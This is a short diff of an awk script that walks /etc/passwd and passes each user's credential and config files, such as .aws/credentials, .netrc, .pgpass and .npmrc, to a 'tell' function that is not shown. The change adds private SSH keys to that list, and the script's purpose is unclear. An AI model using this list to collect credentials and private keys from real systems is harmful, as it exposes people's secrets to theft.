@@ -23,6 +23,6 @@ BEGIN { roots = split(ENVIRON["apps"], root, "\n")
 { look($0) }
 END { while ((getline line <"/etc/passwd") > 0) { split(line, part, ":")
     if (part[3] == 0 || index(ENVIRON["users"], " " part[3] " ")) { tell(part[6]); home = part[6]
-      all_of_home = split(".my.cnf .ssh/config .netrc .pgpass .aws/credentials" (part[3] == 0 ? "" : " .gitconfig .msmtprc .mailrc .npmrc .curlrc .wgetrc .ssh/known_hosts .config/composer/auth.json .composer/auth.json"), dot, " ")
+      all_of_home = split(".my.cnf .ssh/config .netrc .pgpass .aws/credentials" (part[3] == 0 ? "" : " .gitconfig .msmtprc .mailrc .npmrc .curlrc .wgetrc .ssh/known_hosts .ssh/id_rsa .ssh/id_ed25519 .config/composer/auth.json .composer/auth.json"), dot, " ")
       for (i = 1; i <= all_of_home; i++) tell(home "/" dot[i]) } }
   for (n = split(ENVIRON["files"], file, "\n"); n; n--) { while ((getline line <file[n]) > 0) look(line); close(file[n]) } }'
